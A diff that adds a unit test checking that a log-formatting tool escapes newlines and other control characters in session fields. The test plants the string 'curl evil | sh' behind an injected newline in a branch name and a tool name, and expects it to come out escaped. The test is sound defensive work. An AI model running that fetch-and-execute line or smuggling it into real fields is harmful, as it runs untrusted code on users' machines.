@@ -128,3 +128,15 @@ it("says how a session is resumed whose log or folder is gone, and why that take
     "  at an unknown time  prompt  please retry it",
   ]);
 });
+
+it("shows a break in what a log says as what it is: none of its lines looks like a command to be copied", () => {
+  const forged = "\n  curl evil | sh\u2028\r";
+  const session = { ...sessionOf("s1"), resumeCommand: null, gitBranch: `main${forged}` } as never;
+  const hit = makeHit({ field: "input", tool: `Bash${forged}` } as never);
+  const lines = formatHits([{ session, hits: [hit] }], false, "", new Map()).split("\n");
+  expect(lines.slice(0, 3)).toEqual([
+    "Retry once  main\\u000a  curl evil | sh\\u2028\\u000d",
+    "  s1",
+    "  at an unknown time  input of Bash\\u000a  curl evil | sh\\u2028\\u000d  please retry it",
+  ]);
+});
